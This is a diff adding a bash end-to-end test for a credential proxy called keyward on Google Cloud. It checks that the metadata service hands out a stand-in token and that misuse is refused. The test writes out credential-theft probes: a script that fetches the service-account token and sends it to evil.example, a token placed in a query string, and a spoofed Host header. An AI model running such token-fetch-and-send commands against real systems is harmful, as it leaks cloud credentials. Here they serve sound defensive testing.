@@ -1,0 +1,53 @@
+#!/usr/bin/env bash
+# SPDX-License-Identifier: Apache-2.0
+#
+# keyward run at Google: the metadata service gives a stand-in, and the proxy puts the access
+# token in its place.
+# shellcheck source=tests/e2e/lib.sh
+. "$(dirname "$0")/lib.sh"
+start
+instances=$LAB_COMPUTE_URL/compute/v1/projects/$LAB_GOOGLE_PROJECT/zones/z/instances
+md=http://169.254.169.254/computeMetadata/v1
+cat >"$work/files/call" <<'CALL'
+token=$(curl -sS -H Metadata-Flavor:Google "http://$GCE_METADATA_HOST/computeMetadata/v1/instance/service-accounts/default/token" |
+    sed 's/.*"access_token":"\([^"]*\)".*/\1/')
+header=$(mktemp)
+printf 'authorization: Bearer %s%s\n' "$token" "${WRONG:-}" >"$header"
+curl -sS -H "@$header" -w '\n%{http_code}\n' "$@"
+CALL
+for way in direct impersonated; do
+    {
+        printf '[source]\ntype = github\n[google lab]\nprovider = %s\n' "$LAB_GOOGLE_PROVIDER"
+        [ $way = direct ] || printf 'service_account = %s\n' "$LAB_GOOGLE_ACCOUNT"
+        printf '[tls]\nca_file = %s\n[dial]\nresolve = %s\n[audit]\nfile = %s\n' \
+            "$LAB_CA_FILE" "$LAB_RESOLVE" "$work/files/audit"
+    } >"$config"
+    kw run -- bash "$work/files/call" "$instances"
+    ok "$way: 200" is "$(tail -n 1 "$out")" 200
+    ok "$way: an instance" has build-1
+    ok "$way: given the token" says '1 requests given the access token, 0 refused'
+    WRONG=x kw run -- env WRONG=x bash "$work/files/call" "$instances"
+    ok "$way: another bearer: refused" is "$(tail -n 1 "$out")" 403
+    ok "$way: another bearer: in Google's shape" has PERMISSION_DENIED
+    kw run -- bash "$work/files/call" https://evil.example/
+    ok "$way: foreign host: refused" not is "$rc" 0
+    kw run -- bash "$work/files/call" "$instances?access_token=ya29.x"
+    ok "$way: a token in the query: refused" is "$(tail -n 1 "$out")" 403
+    kw run -- env
+    ok "$way: no access token in the environment" not grep -q 'ya29\.[^k]' "$out"
+done
+kw run -- curl -sS -H Metadata-Flavor:Google "$md/instance/service-accounts/default/email"
+ok 'metadata: whose' is "$(cat "$out")" "$LAB_GOOGLE_ACCOUNT"
+kw run -- curl -sS "$md/instance/service-accounts/default/email"
+ok 'metadata: without the header' has 'Metadata-Flavor'
+kw run -- curl -sS -H Metadata-Flavor:Google -H X-Forwarded-For:1 "$md/instance/id"
+ok 'metadata: forwarded' has X-Forwarded-For
+kw run -- curl -sS -H Metadata-Flavor:Google -H Host:evil.example "$md/instance/id"
+ok 'metadata: by another name' has 'metadata service only'
+kw run -- curl -sS -H Metadata-Flavor:Google "$md/instance/service-accounts/default/identity?audience=https%3A%2F%2Fapp.example"
+ok 'metadata: an ID token' grep -qE '^eyJ[A-Za-z0-9_.-]+$' "$out"
+kw run --isolation=off -- sh -c 'echo "${GCE_METADATA_HOST:-none} $CLOUDSDK_AUTH_ACCESS_TOKEN_FILE"; ls -l "$CLOUDSDK_AUTH_ACCESS_TOKEN_FILE"'
+ok 'isolation off: no metadata service' grep -q '^none /dev/shm/keyward-run' "$out"
+ok 'isolation off: told' says 'not isolated'
+ok 'isolation off: nothing left' test -z "$(find /dev/shm -maxdepth 1 -name 'keyward-run.*' -user "$(id -u)")"
+finish
